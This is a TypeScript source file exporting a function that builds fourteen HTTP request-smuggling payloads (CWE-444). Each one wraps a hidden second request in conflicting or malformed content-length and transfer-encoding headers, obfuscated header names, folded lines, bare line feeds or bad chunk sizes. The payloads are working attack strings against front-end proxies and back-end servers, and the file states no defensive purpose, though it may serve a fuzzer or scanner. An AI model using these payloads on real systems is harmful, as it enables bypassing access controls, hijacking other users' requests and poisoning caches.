/**
 * What follows the head of a request so that one server takes it for one request and another for two (CWE-444).
 * @param hidden the second request
 */
export const SMUGGLING = (hidden: string): (readonly [name: string, rest: string])[] => [
  ['length and chunks', `content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`],
  ['chunks and length', `transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n${hidden}`],
  ['two lengths', `content-length: 0\r\ncontent-length: ${hidden.length}\r\n\r\n${hidden}`],
  ['two lengths in one line', `content-length: 0, ${hidden.length}\r\n\r\n${hidden}`],
  ['a length with a sign', `content-length: +0\r\n\r\n${hidden}`],
  ['a length below zero', `content-length: -1\r\n\r\n${hidden}`],
  ['a length in hexadecimal', `content-length: 0x0\r\n\r\n${hidden}`],
  ['chunks by a name of its own', `transfer-encoding: xchunked\r\n\r\n0\r\n\r\n${hidden}`],
  ['chunks twice', `transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n${hidden}`],
  ['a blank before the colon', `transfer-encoding : chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n${hidden}`],
  ['a folded line', `x: y\r\n transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n${hidden}`],
  ['a bare line feed', `x: y\ntransfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n${hidden}`],
  ['a bad size of a chunk', `transfer-encoding: chunked\r\n\r\n0x5\r\n\r\n${hidden}`],
  ['an extension of a chunk with a line feed', `transfer-encoding: chunked\r\n\r\n0;a\nb\r\n\r\n${hidden}`],
]
